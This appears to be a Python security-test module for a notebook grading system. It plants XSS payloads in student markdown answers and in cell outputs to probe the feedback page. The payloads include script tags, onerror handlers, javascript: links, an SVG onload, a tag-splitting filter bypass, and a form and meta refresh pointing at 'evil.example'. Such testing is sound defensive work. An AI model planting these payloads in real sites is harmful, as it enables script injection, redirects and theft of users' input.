"""Family 11: script and event handlers in written answers and in outputs, aimed at the feedback page."""

from . import answer, notebook

PAYLOAD = ('<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="javascript:alert(1)">click</a> '
           '<svg onload=alert(1)></svg> <iframe src="javascript:alert(1)"></iframe> <style>body{display:none}</style> '
           '<form action="https://evil.example"><input name=p></form> <meta http-equiv="refresh" content="0;url=https://evil.example">')


@notebook(11)
def script_in_written_answers(nb, ctx):
    """Every written answer (markdown) carries <script>, onerror=, javascript: links, svg, iframe, style, form, meta refresh."""
    for cell in nb.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = (f"My answer.\n\n{PAYLOAD}\n\n[link](javascript:alert(1)) ![img](x\" onerror=\"alert(1))\n\n"
                           "<div onmouseover=alert(1)>hover</div>\n\n$x$ <scr<script>ipt>alert(1)</script>")
            cell.attachments = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"}}


@answer(11)
def script_in_outputs(ctx):
    """Print and display(HTML/Javascript/Markdown/SVG/_repr_html_/raw mime bundles) script and onerror= markup."""
    return r'''
    from IPython.display import HTML, SVG, Javascript, Markdown, display
    _payload = '<script>alert(1)</script><img src=x onerror=alert(1)>'
    print(_payload)
    display(HTML(_payload))
    display(Javascript("alert(1)"))
    display(Markdown("[x](javascript:alert(1)) " + _payload))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
    display({"text/html": _payload, "text/plain": _payload, "image/png": "\"><script>alert(1)</script>",
             "application/javascript": "alert(1)"}, raw=True)
    class _Rich:
        def _repr_html_(self): return _payload
        def _repr_javascript_(self): return "alert(1)"
    display(_Rich())
    _Rich()
    '''
